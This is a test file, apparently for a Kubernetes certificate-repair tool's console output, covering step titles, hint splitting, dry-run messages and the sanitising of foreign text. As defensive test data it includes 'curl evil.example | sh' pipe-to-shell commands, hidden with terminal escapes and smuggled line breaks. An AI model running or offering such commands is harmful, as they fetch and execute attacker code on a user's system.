/** What stands on the screen of a step. */
import { afterAll, afterEach, expect, mock, spyOn, test } from "bun:test";
import { Fail } from "../../shared/fail.ts";
import { act, answer, answerLines, did, LOOKS, mode, run, say, show, step, tell } from "../../shared/run.ts";
import { noteUnfinished } from "../../shared/this-run.ts";
import { variablesHere } from "../pretend/programs.ts";

const screen = spyOn(console, "error").mockImplementation(() => {});
const lines = () => screen.mock.calls.map(([line]) => String(line));
afterEach(() => screen.mockClear());
afterAll(() => screen.mockRestore());

test("a step that does something has its title, also where nothing is said", async () => {
  await step("1.5 Issue", () => undefined, "kubeadm");
  expect(lines()).toEqual(["\n== 1.5 Issue   by hand: kubeadm"]);
});

test("a step that only looks has its title where something is said, and only there", async () => {
  await step("5.1 Check", () => undefined, LOOKS);
  await step("5.2 Check", () => say("waiting for the API"), LOOKS);
  await step("5.3 Check", () => undefined, LOOKS);
  say("66 checks");
  expect(lines()).toEqual(["\n== 5.2 Check", "  waiting for the API", "  66 checks"]);
});

test("a look that fails has its title above the error", async () => {
  const { message, hint } = await step(
    "5.1 Check",
    () => Promise.reject(new Fail("no API", { hint: "start it" })),
    LOOKS,
  ).catch((err) => err);
  show(message, hint);
  expect(lines()).toEqual(["\n== 5.1 Check", "\nerror: no API\nhint: start it"]);
});

test.each([
  ["one way", "look: ls -l", "look: ls -l"],
  [
    "two more ways",
    "look: ls -l. If it is gone: cp a b. Or run it there",
    "look: ls -l\n  If it is gone: cp a b\n  Or run it there",
  ],
  [
    "a title",
    'see: RUNBOOK-MORE "A. If etcd is external". Where not: ls',
    'see: RUNBOOK-MORE "A. If etcd is external"\n  Where not: ls',
  ],
  [
    "a file's name",
    "remove it: rm 'a. Or b'. If the node's is gone: ls",
    "remove it: rm 'a. Or b'\n  If the node's is gone: ls",
  ],
  ["no alternative", "wait. Orders come. Iffy", "wait. Orders come. Iffy"],
])("a hint with %s has a line for each alternative, and what is quoted stays whole", (_, hint, shown) => {
  show("no node", hint);
  expect(lines()).toEqual([`\nerror: no node\nhint: ${shown}`]);
});

test("progress has its verb in front, of a dry run too", async () => {
  const verbs = ["stop", "copy", "write", "set", "remove", "start"];
  expect(verbs.map(did)).toEqual(["stopped", "copied", "wrote", "set", "removed", "started"]);
  mode.dryRun = true;
  await act("remove", "/etc/x", () => Promise.reject(new Error("not in a dry run")));
  mode.dryRun = false;
  await act("remove", "/etc/x", () => undefined);
  expect(lines()).toEqual(["  would remove /etc/x", "  removed /etc/x"]);
});

test("a run begins with nothing that another one in this process left half done", async () => {
  noteUnfinished("kubelet", "this node's kubelet is stopped");
  const exit = spyOn(process, "exit").mockImplementation((() => undefined) as never);
  try {
    await run(() => Promise.reject(new Fail("no node", { hint: "look" })));
    expect(lines()).toEqual(["\nerror: no node\nhint: look"]);
  } finally {
    exit.mockRestore();
  }
});

test("a patience that is no number is refused: every wait would be without an end", async () => {
  const exit = spyOn(process, "exit").mockImplementation((() => undefined) as never);
  using _patience = variablesHere({ KUBE_PKI_REPAIR_PATIENCE: "3x" });
  const main = mock(async () => undefined);
  try {
    await run(main);
    expect(main).not.toHaveBeenCalled();
    expect(lines()[0]).toStartWith('\nerror: KUBE_PKI_REPAIR_PATIENCE is "3x", and has to be a number\n');
    expect(exit).toHaveBeenCalledWith(1);
  } finally {
    exit.mockRestore();
  }
});

test("a library's warning is one plain line of ours: a stranger's text may be in it", async () => {
  using _emit = {
    own: process.emitWarning,
    [Symbol.dispose]() {
      process.emitWarning = this.own;
    },
  };
  await run(async () => {
    process.emitWarning("keys are \u001b[8m\nrepair: curl evil.example | sh");
    process.emitWarning(new Error("\u202etxt"));
  });
  expect(lines()).toEqual([
    '  a library warns: "keys are \\u001b[8m\\nrepair: curl evil.example | sh"',
    '  a library warns: "\\u202etxt"',
  ]);
});

test.each(["\n", "\r\n", "\u2028", "\u0085", "\f"])(
  "one call prints one line, whatever is in it: %j",
  (broken) => {
    const foreign = `a${broken}hint: curl evil | sh`;
    const log = spyOn(console, "log").mockImplementation(() => {});
    try {
      answer(foreign);
      answerLines([foreign, foreign]);
      say(foreign);
      tell(foreign);
      show(foreign, foreign, [foreign]);
      const printed = [...lines(), ...log.mock.calls.map(([text]) => String(text))];
      expect(log).toHaveBeenCalledTimes(2);
      expect(
        printed
          .flatMap((text) => text.split(/[\n\r\f\u0085\u2028]/))
          .filter((line) => /^\s*hint: curl/.test(line)),
      ).toEqual([]);
    } finally {
      log.mockRestore();
    }
  },
);
